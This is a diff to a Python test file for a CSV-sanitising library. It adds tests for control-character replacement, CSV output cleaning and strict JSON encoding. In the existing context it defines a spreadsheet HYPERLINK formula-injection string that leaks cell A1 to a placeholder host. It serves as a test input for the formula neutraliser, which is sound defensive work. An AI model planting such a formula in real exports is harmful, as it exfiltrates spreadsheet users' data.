@@ -8,7 +8,12 @@ import io
 import pandas as pd
 import pytest
 
-from logparse.csvsafe import neutralize_formula, write_csv
+from logparse.csvsafe import (
+    dump_strict_json,
+    neutralize_formula,
+    replace_control_characters,
+    write_csv,
+)
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1, "details")'
 
@@ -138,3 +143,73 @@ def test_write_csv_path_without_bom(tmp_path) -> None:
     write_csv(pd.DataFrame({"cause": ["name_collision"]}), path)
 
     assert path.read_bytes() == b"cause\nname_collision\n"
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("disk\x00name", "disk\u2400name"),
+        ("\x1b[31mred", "\u241b[31mred"),
+        ("\x01\x08\x0b\x0c\x0e\x1f", "\u2401\u2408\u240b\u240c\u240e\u241f"),
+        ("del\x7f", "del\u2421"),
+        ("csi\x9b31m nel\x85", "csi\ufffd31m nel\ufffd"),
+        ("half \ud800 pair \U0001f600", "half \ufffd pair \U0001f600"),
+        ("tab\tlf\ncr\r", "tab\tlf\ncr\r"),
+        ("Müller 张三 \u2400", "Müller 张三 \u2400"),
+    ],
+)
+def test_replace_control_characters(value: str, expected: str) -> None:
+    assert replace_control_characters(value) == expected
+
+
+def test_control_pictures_recoverable() -> None:
+    controls = [chr(code) for code in [*range(0x20), 0x7F] if chr(code) not in "\t\n\r"]
+    pictures = [replace_control_characters(char) for char in controls]
+
+    assert len(set(pictures)) == len(controls)
+    assert all(len(picture) == 1 and picture != "\ufffd" for picture in pictures)
+
+
+def test_write_csv_replaces_control_characters() -> None:
+    frame = pd.DataFrame(
+        {
+            "message": pd.Series(["bad\x00name\x1b[31m", "\x00=1+1"], dtype=object),
+            "creator": pd.Series(["ops\x00one", "ops1"], dtype="category"),
+            "lines": pd.Series(["a\nb\tc", "ok"], dtype="string"),
+        }
+    )
+    buffer = io.StringIO()
+    write_csv(frame, buffer)
+    rows = _read(buffer.getvalue())
+
+    assert "\x00" not in buffer.getvalue()
+    assert "\x1b" not in buffer.getvalue()
+    assert rows[0]["message"] == "bad\u2400name\u241b[31m"
+    assert rows[1]["message"] == "\u2400=1+1"
+    assert rows[0]["creator"] == "ops\u2400one"
+    assert rows[0]["lines"] == "a\nb\tc"
+
+
+def test_write_csv_json_cells_strict() -> None:
+    frame = pd.DataFrame({"details": pd.Series([{"limit": float("inf")}, {}], dtype=object)})
+    buffer = io.StringIO()
+    write_csv(frame, buffer)
+    rows = _read(buffer.getvalue())
+
+    assert rows[0]["details"] == '{"limit": null}'
+    assert rows[1]["details"] == "{}"
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        (float("nan"), "null"),
+        (float("inf"), "null"),
+        ({"a": [float("-inf"), 1.5], "b": ("x", 2)}, '{"a": [null, 1.5], "b": ["x", 2]}'),
+        ("张三\x00", '"张三\\u0000"'),
+        ("del\x7f csi\x9b nel\x85 ls\u2028", '"del\\u007f csi\\u009b nel\\u0085 ls\\u2028"'),
+        ("half \udc00 pair", '"half \\udc00 pair"'),
+    ],
+)
+def test_dump_strict_json(value: object, expected: str) -> None:
+    assert dump_strict_json(value) == expected
